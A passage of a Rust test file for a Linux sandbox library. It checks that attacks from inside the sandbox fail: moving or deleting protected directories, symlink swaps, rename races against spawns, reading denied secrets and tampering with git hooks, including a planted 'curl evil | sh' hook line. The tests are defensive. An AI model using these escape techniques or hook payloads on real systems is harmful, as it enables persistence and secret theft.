//! Issue 12, classes 1 (nested roots), 3b (path-grant TOCTOU) and 11 (silent narrowing), on
//! the Linux backend through the library: every attack runs from inside a sandbox (or, for the
//! races, from a host thread while spawns run) and fails, next to a positive control that shows
//! the same primitive works where the policy allows it. Needs root or the rootless mode.
//!
//! `harness = false`: `main` calls `sandbox::init()` first, as every embedder must.
#![allow(clippy::unwrap_used, clippy::panic, clippy::print_stdout, clippy::tests_outside_test_module)]

#[cfg(target_os = "linux")]
mod linux {
    use std::fs;
    use std::os::unix::fs::symlink;
    use std::path::Path;
    use std::sync::Arc;
    use std::sync::atomic::{AtomicBool, Ordering};
    use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

    use sandbox::{Access, Error, Executor, ExecutorSet, ExitStatus, GrantRequest, Profile, ProfileConfig, RootAccess};
    use sandbox_tests::TestDirs;

    pub use sandbox_tests::deadline as dl;

    fn root(path: &Path, read: Access, write: Access) -> RootAccess {
        RootAccess { path: path.to_path_buf(), read, write }
    }

    /// The issue's `P(root, r, w)`: workspace read-write, host read deny, commands allowed.
    fn config(dirs: &TestDirs, roots: Vec<RootAccess>) -> ProfileConfig {
        ProfileConfig {
            host_read: Access::Deny,
            host_write: Access::Deny,
            network: Access::Deny,
            additional_roots: roots,
            ..dirs.allow_config()
        }
    }

    fn set_of(dirs: &TestDirs, profile: &Profile) -> ExecutorSet {
        ExecutorSet::new(&dl(), profile, dirs.set_options(4)).unwrap()
    }

    /// Runs `script` with `sh -c` in the workspace; (exit code, combined output).
    fn sh(exec: &Executor, dirs: &TestDirs, script: &str) -> Result<(i32, String), Error> {
        exec.run_argv(&dl(), &dirs.ws, &["/bin/sh", "-c", script]).map(|o| {
            let code = match o.status {
                ExitStatus::Code(c) => c,
                other => panic!("{script}: {other:?}"),
            };
            (code, String::from_utf8_lossy(&o.bytes).into_owned())
        })
    }

    fn sh_ok(exec: &Executor, dirs: &TestDirs, script: &str) -> String {
        let (code, out) = sh(exec, dirs, script).unwrap();
        assert_eq!(code, 0, "{script}: {out}");
        out
    }

    /// Each attack line prints `<name>=<exit code>`; every one must have failed.
    fn all_failed(out: &str, names: &[&str]) {
        for n in names {
            let line = out.lines().find(|l| l.starts_with(&format!("{n}="))).unwrap_or_else(|| panic!("no {n}: {out}"));
            assert_ne!(line, format!("{n}=0"), "attack {n} succeeded: {out}");
        }
    }

    fn attempt(name: &str, cmd: &str) -> String {
        format!("({cmd}) >/dev/null 2>&1; echo {name}=$?; ")
    }

    /// 1a: a deny root nested in the writable workspace. Renaming its parent or grandparent,
    /// removing or renaming it, or replacing an ancestor by a symlink all fail inside run 1, so
    /// run 2 (same Profile, and a new Profile from the same config, as the CLI makes) never
    /// reads the secret. Positive control: ordinary directories and files are created, renamed
    /// and removed freely, and a nested writable root is writable.
    pub fn nested_deny_root_cannot_be_moved_away_from_its_name() {
        let d = TestDirs::new("sbx-roots");
        fs::create_dir_all(d.ws.join("cfg/secrets")).unwrap();
        fs::write(d.ws.join("cfg/secrets/key"), "TOP\n").unwrap();
        fs::create_dir_all(d.ws.join("a/b/c/secrets")).unwrap();
        fs::write(d.ws.join("a/b/c/secrets/key"), "DEEP\n").unwrap();
        fs::create_dir_all(d.ws.join("a/rw")).unwrap();
        let c = config(
            &d,
            vec![
                root(&d.ws.join("cfg/secrets"), Access::Deny, Access::Deny),
                root(&d.ws.join("a/b/c/secrets"), Access::Deny, Access::Deny),
                root(&d.ws.join("a/rw"), Access::Allow, Access::Allow),
            ],
        );
        let profile = Profile::new(c.clone()).unwrap();
        let set = set_of(&d, &profile);
        let exec = set.executor("k").unwrap();
        let mut script = String::new();
        for (name, cmd) in [
            ("mv-parent", "mv cfg cfg-moved"),
            ("mv-grandparent", "mv a a-moved"),
            ("mv-middle", "mv a/b a/b-moved"),
            ("mv-deep-parent", "mv a/b/c a/b/c-moved"),
            ("mv-root", "mv -T cfg/secrets cfg/s2 && test -e cfg/s2 && ! test -e cfg/secrets"),
            ("rmdir-root", "rmdir cfg/secrets"),
            ("rm-rf-parent", "rm -rf cfg && ! test -e cfg"),
            ("symlink-over-parent", "rm -rf a/b && ln -s / a/b"),
            ("python-rename", "python3 -c 'import os; os.rename(\"cfg\", \"cfg-py\")'"),
            (
                "python-exchange",
                "mkdir x && python3 -c 'import ctypes,os; l=ctypes.CDLL(None,use_errno=True); r=l.renameat2(-100,b\"x\",-100,b\"cfg\",2); os._exit(0 if r==0 else 1)'",
            ),
            ("read-secret", "cat cfg/secrets/key a/b/c/secrets/key"),
        ] {
            script.push_str(&attempt(name, cmd));
        }
        let out = sh_ok(&exec, &d, &script);
        all_failed(
            &out,
            &[
                "mv-parent",
                "mv-grandparent",
                "mv-middle",
                "mv-deep-parent",
                "mv-root",
                "rmdir-root",
                "rm-rf-parent",
                "symlink-over-parent",
                "python-rename",
                "python-exchange",
                "read-secret",
            ],
        );
        // Positive controls in the same run: the same primitives on ordinary entries work.
        let ok = sh_ok(
            &exec,
            &d,
            "mkdir -p p/q && echo data > p/q/f && mv p p2 && mv p2/q p2/q2 && rm -rf p2 && \
             mkdir x2 y2 && python3 -c 'import ctypes; l=ctypes.CDLL(None); assert l.renameat2(-100,b\"x2\",-100,b\"y2\",2)==0' && \
             ln -s / link && rm link && echo new > a/rw/f && mv a/rw/f a/rw/g && cat a/rw/g && echo controls-ok",
        );
        assert!(ok.ends_with("new\ncontrols-ok\n"), "{ok}");
        // Run 2 with the same Profile, and with a new Profile from the same config.
        let set2 = set_of(&d, &Profile::new(c).unwrap());
        for exec2 in [&exec, &set2.executor("k2").unwrap()] {
            let (_, out) =
                sh(exec2, &d, "cat cfg-moved/secrets/key a-moved/b/c/secrets/key cfg/secrets/key 2>&1; true").unwrap();
            assert!(!out.contains("TOP") && !out.contains("DEEP"), "secret read in run 2: {out}");
        }
        // On the host everything is where it was.
        assert_eq!(fs::read_to_string(d.ws.join("cfg/secrets/key")).unwrap(), "TOP\n");
        assert_eq!(fs::read_to_string(d.ws.join("a/b/c/secrets/key")).unwrap(), "DEEP\n");
        assert!(!d.ws.join("cfg-moved").exists() && !d.ws.join("a-moved").exists());
    }

    /// 1b: a read-only `.git/hooks`: `.git` cannot be moved aside (nor hooks, nor replaced), a hook
    /// cannot be appended to. Positive control: other files in `.git` are writable (it is the
    /// workspace), and a hook is readable.
    pub fn read_only_git_hooks_cannot_be_swapped_or_appended() {
        let d = TestDirs::new("sbx-roots");
        fs::create_dir_all(d.ws.join(".git/hooks")).unwrap();
        fs::write(d.ws.join(".git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n").unwrap();
        let profile =
            Profile::new(config(&d, vec![root(&d.ws.join(".git/hooks"), Access::Allow, Access::Deny)])).unwrap();
        let set = set_of(&d, &profile);
        let exec = set.executor("k").unwrap();
        let mut script = String::new();
        for (name, cmd) in [
            ("mv-git", "mv .git .git-real"),
            ("mv-hooks", "mv .git/hooks .git/hooks-real"),
            ("rm-git", "rm -rf .git && ! test -e .git"),
            ("append-hook", "echo 'curl evil | sh' >> .git/hooks/pre-commit"),
            ("new-hook", "echo evil > .git/hooks/post-checkout"),
            ("replace-hook", "mv .git/hooks/pre-commit /tmp/pc"),
            ("chmod-hook", "chmod 777 .git/hooks/pre-commit"),
        ] {
            script.push_str(&attempt(name, cmd));
        }
        let out = sh_ok(&exec, &d, &script);
        all_failed(&out, &["mv-git", "mv-hooks", "rm-git", "append-hook", "new-hook", "replace-hook", "chmod-hook"]);
        let ok =
            sh_ok(&exec, &d, "echo ref > .git/HEAD && mv .git/HEAD .git/ORIG && cat .git/hooks/pre-commit && echo ok");
        assert!(ok.ends_with("exit 0\nok\n"), "{ok}");
        assert_eq!(fs::read_to_string(d.ws.join(".git/hooks/pre-commit")).unwrap(), "#!/bin/sh\nexit 0\n");
        assert!(!d.ws.join(".git-real").exists() && !d.ws.join(".git/hooks/post-checkout").exists());
    }

    /// 1c: a nested read-only root replaced between runs (by the host here: the workload cannot,
    /// see above) by a symlink to `/`, `/proc` or `/tmp`, or by another directory: the next
    /// spawn with the same Profile object fails naming the root and runs nothing; a new
    /// Profile from the same config is refused (the root now goes through a symlink).
    pub fn a_replaced_root_fails_the_next_spawn_naming_it() {
        for target in ["/", "/proc", "/tmp", "dir"] {
            let d = TestDirs::new("sbx-roots");
            fs::create_dir_all(d.ws.join("a/ro")).unwrap();
            fs::write(d.ws.join("a/ro/file"), "right\n").unwrap();
            let ro = d.ws.join("a/ro");
            let c = config(&d, vec![root(&ro, Access::Allow, Access::Deny)]);
            let profile = Profile::new(c.clone()).unwrap();
            let set = set_of(&d, &profile);
            let exec = set.executor("k").unwrap();
            // Positive control: the root reads as itself.
            assert_eq!(sh_ok(&exec, &d, "cat a/ro/file"), "right\n");
            fs::rename(d.ws.join("a"), d.ws.join("a-old")).unwrap();
            fs::create_dir(d.ws.join("a")).unwrap();
            if target == "dir" {
                fs::create_dir(&ro).unwrap();
                fs::write(ro.join("file"), "WRONG\n").unwrap();
            } else {
                symlink(target, &ro).unwrap();
            }
            let marker = d.ws.join("ran");
            let got = sh(&exec, &d, &format!("touch {}; ls a/ro/ a/ro/etc 2>&1", marker.display()));
            match &got {
                Err(Error::InvalidProfile { detail }) => {
                    assert!(detail.contains(&ro.display().to_string()), "{target}: {detail}");
                    assert!(detail.contains("additional_roots"), "{target}: {detail}");
                }
                other => panic!("{target}: the spawn was not refused: {other:?}"),
            }
            assert!(!marker.exists(), "{target}: the workload ran");
            // A new profile from the same config: refused (symlink) or a fresh, honest root.
            match Profile::new(c) {
                Err(Error::InvalidProfile { detail }) => {
                    assert_ne!(target, "dir");
                    assert!(detail.contains("additional_roots[0].path") && detail.contains("symlink"), "{detail}");
                }
                Ok(p) => {
                    assert_eq!(target, "dir");
                    let set2 = set_of(&d, &p);
                    let exec = set2.executor("k").unwrap();
                    assert_eq!(
                        sh_ok(&exec, &d, "cat a/ro/file; (echo x > a/ro/new) 2>/dev/null || echo ro"),
                        "WRONG\nro\n"
                    );
                }
                Err(e) => panic!("{target}: {e:?}"),
            }
            // Back in place, the same Profile works again (nothing was widened or cached).
            if target == "dir" {
                fs::remove_dir_all(&ro).unwrap();
            } else {
                fs::remove_file(&ro).unwrap();
            }
            fs::remove_dir(d.ws.join("a")).unwrap();
            fs::rename(d.ws.join("a-old"), d.ws.join("a")).unwrap();
            assert_eq!(sh_ok(&exec, &d, "cat a/ro/file"), "right\n");
        }
    }

    /// 1d: a root given through a symlink (`.codex -> decoy/`) is refused naming the field and
    /// the real path; a workspace given through a symlink is still canonicalized (positive).
    pub fn a_root_through_a_symlink_is_refused() {
        let d = TestDirs::new("sbx-roots");
        fs::create_dir(d.ws.join("decoy")).unwrap();
        symlink(d.ws.join("decoy"), d.ws.join(".codex")).unwrap();
        symlink(&d.ws, d.root.join("ws-link")).unwrap();
        for path in [d.ws.join(".codex"), d.root.join("ws-link/decoy")] {
            match Profile::new(config(&d, vec![root(&path, Access::Allow, Access::Deny)])) {
                Err(Error::InvalidProfile { detail }) => {
                    assert!(detail.contains("additional_roots[0].path"), "{detail}");
                    assert!(detail.contains(&d.ws.join("decoy").display().to_string()), "{detail}");
                }
                other => panic!("{}: {other:?}", path.display()),
            }
        }
        let p = Profile::new(ProfileConfig {
            workspace_root: d.root.join("ws-link"),
            additional_roots: vec![root(&d.ws.join("decoy"), Access::Allow, Access::Deny)],
            ..config(&d, vec![])
        })
        .unwrap();
        assert_eq!(p.workspace_root(), d.ws.as_path());
        let set = set_of(&d, &p);
        let exec = set.executor("k").unwrap();
        let out = sh_ok(&exec, &d, "(echo x > decoy/f) 2>/dev/null || echo decoy-ro; echo y > own && echo ws-rw");
        assert_eq!(out, "decoy-ro\nws-rw\n");
    }

    /// 1a/1c at the window: a host thread swaps a deny root with a decoy directory (rename
    /// exchange) in a loop while spawns with the same Profile run. Every spawn either fails
    /// (before building: InvalidProfile; after mounting: the init's identity check) or has its
    /// mask on the root's own directory: the secret is never readable under either name. (A
    /// mount follows its directory when the host renames it, so the mask stays on the secret.)
    pub fn a_deny_root_swapped_in_a_loop_during_spawns_is_never_exposed() {
        let d = TestDirs::new("sbx-roots");
        fs::create_dir_all(d.ws.join("a/secrets")).unwrap();
        fs::create_dir_all(d.ws.join("a/decoy")).unwrap();
        fs::write(d.ws.join("a/secrets/file"), "SECRET\n").unwrap();
        fs::write(d.ws.join("a/decoy/file"), "decoy\n").unwrap();
        let profile =
            Profile::new(config(&d, vec![root(&d.ws.join("a/secrets"), Access::Deny, Access::Deny)])).unwrap();
        let set = set_of(&d, &profile);
        let exec = set.executor("k").unwrap();
        let probe = "cat a/secrets/file a/decoy/file 2>/dev/null; true";
        // Positive control: the decoy reads, the secret does not.
        assert_eq!(sh_ok(&exec, &d, probe), "decoy\n");
        let secret_ino = std::os::unix::fs::MetadataExt::ino(&fs::metadata(d.ws.join("a/secrets")).unwrap());
        let stop = Arc::new(AtomicBool::new(false));
        let swapper = {
            let (stop, a, b) = (Arc::clone(&stop), d.ws.join("a/secrets"), d.ws.join("a/decoy"));
            std::thread::spawn(move || {
                let a = std::ffi::CString::new(a.to_str().unwrap()).unwrap();
                let b = std::ffi::CString::new(b.to_str().unwrap()).unwrap();
                let mut swaps = 0u64;
                while !stop.load(Ordering::SeqCst) {
                    // SAFETY: both paths are NUL-terminated and alive for the call.
                    let rc = unsafe {
                        libc::renameat2(libc::AT_FDCWD, a.as_ptr(), libc::AT_FDCWD, b.as_ptr(), libc::RENAME_EXCHANGE)
                    };
                    assert_eq!(rc, 0, "{}", std::io::Error::last_os_error());
                    swaps += 1;
                    // Swapped for longer than in place: the in-place moments are when a spawn
                    // passes the check before building, and the next swap then often lands
                    // before the mount (with the init's check disabled, this loop reads the
                    // secret within a few spawns).
                    std::thread::sleep(Duration::from_micros(if swaps.is_multiple_of(2) { 300 } else { 3000 }));
                }
                swaps
            })
        };
        let mut tally = sandbox_tests::SwapTally::default();
        let end = Instant::now() + Duration::from_secs(20);
        let mut even = 0;
        while Instant::now() < end && tally.spawns < 2000 {
            // Spawns at varying phases of the swap loop.
            std::thread::sleep(Duration::from_micros(150 * u64::from(tally.spawns % 7)));
            use std::os::unix::fs::MetadataExt;
            if fs::metadata(d.ws.join("a/secrets")).map(|m| m.ino()).ok() == Some(secret_ino) {
                even += 1;
            }
            if let Some(out) = tally.record("swap", sh(&exec, &d, probe), "SECRET") {
                assert!(!out.contains("SECRET"), "spawn {} read the deny root: {out}", tally.spawns);
            }
        }
        stop.store(true, Ordering::SeqCst);
        let swaps = swapper.join().unwrap();
        println!("  {swaps} swaps, the mask's root in place before {even} spawns: {}", tally.summary());
        assert!(tally.refused + tally.caught_inside > 0, "the swap never hit a spawn: {}", tally.summary());
        if fs::read_to_string(d.ws.join("a/secrets/file")).unwrap() != "SECRET\n" {
            fs::rename(d.ws.join("a/secrets"), d.ws.join("a/tmp")).unwrap();
            fs::rename(d.ws.join("a/decoy"), d.ws.join("a/secrets")).unwrap();
            fs::rename(d.ws.join("a/tmp"), d.ws.join("a/decoy")).unwrap();
        }
        assert_eq!(sh_ok(&exec, &d, probe), "decoy\n");
    }

    /// A deny root renamed away for a moment and back, in a loop, while spawns run (no decoy:
    /// `secrets` -> `.aside` -> `secrets`, 200 us away, 2 ms in place; and a three-way rotation
    /// with a decoy, the name missing for 100 us at each step). A spawn whose identity check saw
    /// the root in place but whose compile saw it missing planned no mask at all, and read the
    /// secret at its own name once it was back (an attack on this session's fix: 2 leaks in 219
    /// runs, and 2 in 28 runs of the rotation). Now such a spawn fails (`InvalidProfile`); every
    /// spawn that runs has the mask, and none reads the secret under any name. Positive
    /// control: spawns still run during the loop and read the plain file beside the root.
    pub fn a_deny_root_renamed_away_and_back_during_spawns_is_never_exposed() {
        for rotation in [false, true] {
            let d = TestDirs::new("sbx-roots");
            fs::create_dir_all(d.ws.join("a/secrets")).unwrap();
            fs::write(d.ws.join("a/secrets/file"), "SECRET\n").unwrap();
            fs::write(d.ws.join("a/plain"), "plain\n").unwrap();
            if rotation {
                fs::create_dir_all(d.ws.join("a/decoy")).unwrap();
                fs::write(d.ws.join("a/decoy/file"), "decoy\n").unwrap();
            }
            let profile =
                Profile::new(config(&d, vec![root(&d.ws.join("a/secrets"), Access::Deny, Access::Deny)])).unwrap();
            let set = set_of(&d, &profile);
            let exec = set.executor("k").unwrap();
            let probe = "cat a/plain; for i in $(seq 40); do \
                         cat a/secrets/file a/.aside/file a/decoy/file a/tmp/file 2>/dev/null; done; true";
            let control = sh_ok(&exec, &d, probe);
            assert!(control.starts_with("plain\n") && !control.contains("SECRET"), "{control}");
            let stop = Arc::new(AtomicBool::new(false));
            let swapper = {
                let (stop, a) = (Arc::clone(&stop), d.ws.join("a"));
                std::thread::spawn(move || {
                    let mut moves = 0u64;
                    while !stop.load(Ordering::SeqCst) {
                        if rotation {
                            fs::rename(a.join("secrets"), a.join("tmp")).unwrap();
                            std::thread::sleep(Duration::from_micros(100));
                            fs::rename(a.join("decoy"), a.join("secrets")).unwrap();
                            std::thread::sleep(Duration::from_micros(100));
                            fs::rename(a.join("tmp"), a.join("decoy")).unwrap();
                            std::thread::sleep(Duration::from_micros(3000));
                        } else {
                            fs::rename(a.join("secrets"), a.join(".aside")).unwrap();
                            std::thread::sleep(Duration::from_micros(200));
                            fs::rename(a.join(".aside"), a.join("secrets")).unwrap();
                            std::thread::sleep(Duration::from_micros(2000));
                        }
                        moves += 1;
                    }
                    moves
                })
            };
            let label = if rotation { "three-way rotation" } else { "renamed away and back" };
            let mut tally = sandbox_tests::SwapTally::default();
            let end = Instant::now() + Duration::from_secs(10);
            while Instant::now() < end && tally.spawns < 1000 {
                std::thread::sleep(Duration::from_micros(150 * u64::from(tally.spawns % 7)));
                if let Some(out) = tally.record(label, sh(&exec, &d, probe), "SECRET") {
                    assert!(!out.contains("SECRET"), "spawn {} read the deny root: {out}", tally.spawns);
                    assert!(out.starts_with("plain\n"), "{out}");
                }
            }
            stop.store(true, Ordering::SeqCst);
            let moves = swapper.join().unwrap();
            println!("  {label}: {moves} rounds, {}", tally.summary());
            tally.assert_hit_and_ran(label);
        }
    }

    /// Protected directories moved by the host to another parent of the workspace while a run
    /// waits: a deny root (its parent pinned), one two pinned levels down, a read-only root
    /// (its parents pinned) and a read-only `.git/hooks` (protect-v1). Each protection was
    /// made only inside the pin of its parent, so the workload reached the moved directory
    /// through the workspace's own bind, unprotected (an attack on the identity fix: read the
    /// secret, wrote into the read-only root). Now each protection is in every mount that
    /// shows its directory: the moved secrets stay unreadable, the read-only directories stay
    /// read-only. Positive control in the same run: a plain directory moved the same way is
    /// read and written at its new place, and the same reads and writes fail before the move.
    /// With host read denied and allowed (the workspace then lies inside the host's `/var`).
    pub fn protected_directories_moved_to_another_parent_during_a_run_stay_protected() {
        for host_read in [Access::Deny, Access::Allow] {
            moved_during_a_run(host_read);
        }
    }

    fn moved_during_a_run(host_read: Access) {
        let d = TestDirs::new("sbx-roots");
        let w = &d.ws;
        for dir in ["a/secrets", "p/q/secrets", "c/b/ro", ".git/hooks", "a/plain", "b", "d", "e"] {
            fs::create_dir_all(w.join(dir)).unwrap();
        }
        fs::write(w.join("a/secrets/file"), "SECRET-A\n").unwrap();
        fs::write(w.join("p/q/secrets/file"), "SECRET-Q\n").unwrap();
        fs::write(w.join("c/b/ro/file"), "ro\n").unwrap();
        fs::write(w.join(".git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n").unwrap();
        fs::write(w.join("a/plain/file"), "plain\n").unwrap();
        let profile = Profile::new(ProfileConfig {
            host_read,
            ..config(
                &d,
                vec![
                    root(&w.join("a/secrets"), Access::Deny, Access::Deny),
                    root(&w.join("p/q/secrets"), Access::Deny, Access::Deny),
                    root(&w.join("c/b/ro"), Access::Allow, Access::Deny),
                ],
            )
        })
        .unwrap();
        let set = set_of(&d, &profile);
        let exec = set.executor("k").unwrap();
        let probe = |a: &str, q: &str, ro: &str, hooks: &str, plain: &str| {
            let mut s = String::new();
            s.push_str(&attempt("read-a", &format!("cat {a}/file")));
            s.push_str(&attempt("list-a", &format!("ls {a} | grep -q file")));
            s.push_str(&attempt("read-q", &format!("cat {q}/file")));
            s.push_str(&attempt("write-ro", &format!("echo pwn > {ro}/file")));
            s.push_str(&attempt("create-ro", &format!("echo pwn > {ro}/new")));
            s.push_str(&attempt("write-hook", &format!("echo pwn >> {hooks}/pre-commit")));
            s.push_str(&attempt("new-hook", &format!("echo pwn > {hooks}/post-checkout")));
            s.push_str(&format!("cat {plain}/file && echo w > {plain}/w && cat {ro}/file && echo probe-ok; "));
            s
        };
        let names = ["read-a", "list-a", "read-q", "write-ro", "create-ro", "write-hook", "new-hook"];
        // Before any move, in place.
        let out = sh_ok(&exec, &d, &probe("a/secrets", "p/q/secrets", "c/b/ro", ".git/hooks", "a/plain"));
        all_failed(&out, &names);
        assert!(out.contains("plain\nro\nprobe-ok"), "{out}");
        // Moved while the run waits for the host.
        let script = format!(
            "touch ready; while [ ! -e go ]; do sleep 0.01; done; {}",
            probe("b/x", "e/z", "d/y", "h", "b/plain")
        );
        let mover = {
            let w = w.clone();
            std::thread::spawn(move || {
                let start = Instant::now();
                while !w.join("ready").exists() {
                    assert!(start.elapsed() < Duration::from_secs(20), "the run never started");
                    std::thread::sleep(Duration::from_millis(5));
                }
                fs::rename(w.join("a/secrets"), w.join("b/x")).unwrap();
                fs::rename(w.join("p/q/secrets"), w.join("e/z")).unwrap();
                fs::rename(w.join("c/b/ro"), w.join("d/y")).unwrap();
                fs::rename(w.join(".git/hooks"), w.join("h")).unwrap();
                fs::rename(w.join("a/plain"), w.join("b/plain")).unwrap();
                fs::write(w.join("go"), "").unwrap();
            })
        };
        let out = sh_ok(&exec, &d, &script);
        mover.join().unwrap();
        all_failed(&out, &names);
        assert!(!out.contains("SECRET"), "a moved deny root was read: {out}");
        assert!(out.contains("plain\nro\nprobe-ok"), "the moved plain directory was not usable: {out}");
        // On the host: the read-only directories are untouched, the plain one was written.
        assert_eq!(fs::read_to_string(w.join("d/y/file")).unwrap(), "ro\n");
        assert!(!w.join("d/y/new").exists() && !w.join("h/post-checkout").exists());
        assert_eq!(fs::read_to_string(w.join("h/pre-commit")).unwrap(), "#!/bin/sh\nexit 0\n");
        assert_eq!(fs::read_to_string(w.join("b/plain/w")).unwrap(), "w\n");
    }

    /// The same moves where the protections sit in layers no copy through the root can carry
    /// (an attack on the fix above; and on the first version of this one: a deny root inside a
    /// read-only root inside such a layer, the read-only root or the deny root moved): a writable root inside a read-only root inside the
    /// workspace, holding a deny root, a read-only root and a repository's hooks; and a writable
    /// root inside a deny root, holding a deny root. Moved by the host to the workspace's top
    /// while the workload waits, each stays protected (the protections are made once more on
    /// each enclosing bind). Positive controls: the writable roots are written (a copy through
    /// the root had made one read-only), a plain directory moved the same way is read.
    pub fn protections_in_layers_moved_during_a_run_stay_protected() {
        let d = TestDirs::new("sbx-roots");
        let w = &d.ws;
        for dir in
            ["ro/rw/s", "ro/rw/r2", "ro/rw/repo/.git/hooks", "dd/w/s2", "ro/rw/plain", "ro/rw/r3/s3", "ro/rw/r4/s4"]
        {
            fs::create_dir_all(w.join(dir)).unwrap();
        }
        fs::write(w.join("ro/rw/s/file"), "SECRET-S\n").unwrap();
        fs::write(w.join("dd/w/s2/file"), "SECRET-S2\n").unwrap();
        fs::write(w.join("ro/rw/r2/file"), "r2\n").unwrap();
        fs::write(w.join("ro/rw/repo/.git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n").unwrap();
        fs::write(w.join("ro/rw/plain/file"), "plain\n").unwrap();
        fs::write(w.join("ro/rw/r3/s3/file"), "SECRET-S3\n").unwrap();
        fs::write(w.join("ro/rw/r4/s4/file"), "SECRET-S4\n").unwrap();
        let profile = Profile::new(config(
            &d,
            vec![
                root(&w.join("ro"), Access::Allow, Access::Deny),
                root(&w.join("ro/rw"), Access::Allow, Access::Allow),
                root(&w.join("ro/rw/s"), Access::Deny, Access::Deny),
                root(&w.join("ro/rw/r2"), Access::Allow, Access::Deny),
                root(&w.join("dd"), Access::Deny, Access::Deny),
                root(&w.join("dd/w"), Access::Allow, Access::Allow),
                root(&w.join("dd/w/s2"), Access::Deny, Access::Deny),
                root(&w.join("ro/rw/r3"), Access::Allow, Access::Deny),
                root(&w.join("ro/rw/r3/s3"), Access::Deny, Access::Deny),
                root(&w.join("ro/rw/r4"), Access::Allow, Access::Deny),
                root(&w.join("ro/rw/r4/s4"), Access::Deny, Access::Deny),
            ],
        ))
        .unwrap();
        let set = set_of(&d, &profile);
        let exec = set.executor("k").unwrap();
        let names = ["read-s", "read-s2", "write-r2", "write-hook", "read-s3", "read-s4"];
        let probe = |s: &str, s2: &str, r2: &str, hooks: &str, plain: &str, s3: &str, s4: &str| {
            let mut out = String::new();
            out.push_str(&attempt("read-s3", &format!("cat {s3}/file")));
            out.push_str(&attempt("read-s4", &format!("cat {s4}/file")));
            out.push_str(&attempt("read-s", &format!("cat {s}/file")));
            out.push_str(&attempt("read-s2", &format!("cat {s2}/file")));
            out.push_str(&attempt("write-r2", &format!("echo pwn > {r2}/file")));
            out.push_str(&attempt("write-hook", &format!("echo pwn >> {hooks}/pre-commit")));
            out.push_str(&format!(
                "cat {plain}/file && echo ok > ro/rw/new && echo ok > dd/w/new && rm ro/rw/new dd/w/new && echo probe-ok; "
            ));
            out
        };
        let out = sh_ok(
            &exec,
            &d,
            &probe(
                "ro/rw/s",
                "dd/w/s2",
                "ro/rw/r2",
                "ro/rw/repo/.git/hooks",
                "ro/rw/plain",
                "ro/rw/r3/s3",
                "ro/rw/r4/s4",
            ),
        );
        all_failed(&out, &names);
        assert!(out.ends_with("plain\nprobe-ok\n"), "{out}");
        let script = format!(
            "touch ready; while [ ! -e go ]; do sleep 0.01; done; {}",
            probe("m1", "m4", "m2", "m3", "m5", "m6/s3", "m7")
        );
        let mover = {
            let w = w.clone();
            std::thread::spawn(move || {
                let start = Instant::now();
                while !w.join("ready").exists() {
                    assert!(start.elapsed() < Duration::from_secs(20), "the run never started");
                    std::thread::sleep(Duration::from_millis(5));
                }
                for (from, to) in [
                    ("ro/rw/s", "m1"),
                    ("ro/rw/r2", "m2"),
                    ("ro/rw/repo/.git/hooks", "m3"),
                    ("dd/w/s2", "m4"),
                    ("ro/rw/plain", "m5"),
                    ("ro/rw/r3", "m6"),
                    ("ro/rw/r4/s4", "m7"),
                ] {
                    fs::rename(w.join(from), w.join(to)).unwrap();
                }
                fs::write(w.join("go"), "").unwrap();
            })
        };
        let out = sh_ok(&exec, &d, &script);
        mover.join().unwrap();
        all_failed(&out, &names);
        assert!(!out.contains("SECRET"), "a moved deny root was read: {out}");
        assert!(out.ends_with("plain\nprobe-ok\n"), "{out}");
        assert_eq!(fs::read_to_string(w.join("m2/file")).unwrap(), "r2\n");
        assert_eq!(fs::read_to_string(w.join("m3/pre-commit")).unwrap(), "#!/bin/sh\nexit 0\n");
    }

    /// The init's name check (class 1) against a parent that another sandbox keeps changing:
    /// a workload of another set (a profile without the root, the workspace writable) creates
    /// and removes a file in the workspace root in a loop, which changes the ctime of the
    /// parent of the pinned `cfg` all the time, while spawns of the profile with the nested
    /// deny root run. Every spawn must run (the check retries until it sees the parent
    /// unchanged) and none reads the secret. With the old bound (16 attempts) about half of
    /// these spawns failed with "its parent kept changing". Positive control: the churner ran
    /// all along (its count), and the same spawns read an ordinary file beside the root.
    pub fn a_parent_changed_constantly_by_another_sandbox_does_not_fail_spawns() {
        let d = TestDirs::new("sbx-roots");
        fs::create_dir_all(d.ws.join("cfg/secrets")).unwrap();
        fs::write(d.ws.join("cfg/secrets/key"), "TOP\n").unwrap();
        fs::write(d.ws.join("cfg/plain"), "plain\n").unwrap();
        // Host read allowed, as the CLI's default: the workspace's own parent is then a host
        // bind and checked too.
        let profile = Profile::new(ProfileConfig {
            additional_roots: vec![root(&d.ws.join("cfg/secrets"), Access::Deny, Access::Deny)],
            ..d.allow_config()
        })
        .unwrap();
        let set = set_of(&d, &profile);
        let exec = set.executor("k").unwrap();
        let probe = "cat cfg/plain; cat cfg/secrets/key 2>/dev/null || echo masked";
        assert_eq!(sh_ok(&exec, &d, probe), "plain\nmasked\n");
        let other = set_of(&d, &Profile::new(config(&d, vec![])).unwrap());
        let churner = other.executor("churn").unwrap();
        let churn = {
            let d_ws = d.ws.clone();
            std::thread::spawn(move || {
                // Two processes (one per core of a small CI machine), each with its own file.
                let script = format!(
                    "import os,time\nopen({s:?},'w').close()\npid=os.fork()\nf='churn%d'%(pid==0)\n\
                     t=time.time(); n=0\nwhile time.time()-t<14:\n  fd=os.open(f,os.O_CREAT|os.O_WRONLY); \
                     os.close(fd); os.unlink(f); n+=1\nprint(n, flush=True)\nif pid: os.waitpid(pid,0)\n",
                    s = d_ws.join("churn-started").display().to_string()
                );
                churner.run_argv(&dl(), &d_ws, &["python3", "-c", &script]).unwrap()
            })
        };
        let waited = Instant::now();
        while !d.ws.join("churn-started").exists() {
            assert!(waited.elapsed() < Duration::from_secs(20), "the churner never started");
            std::thread::sleep(Duration::from_millis(20));
        }
        // And the host itself (a build or `git` in the workspace), from a thread.
        let stop = Arc::new(AtomicBool::new(false));
        let host_changes = Arc::new(std::sync::atomic::AtomicU64::new(0));
        let host_churn = {
            let (stop, f, n) = (Arc::clone(&stop), d.ws.join("host-churn"), Arc::clone(&host_changes));
            std::thread::spawn(move || {
                while !stop.load(Ordering::SeqCst) {
                    fs::write(&f, "").unwrap();
                    fs::remove_file(&f).unwrap();
                    n.fetch_add(1, Ordering::SeqCst);
                }
                n.load(Ordering::SeqCst)
            })
        };
        let (mut ran, mut failed) = (0, Vec::new());
        let end = Instant::now() + Duration::from_secs(10);
        // At least 3 s of spawns (faster spawns would otherwise end the window before the host
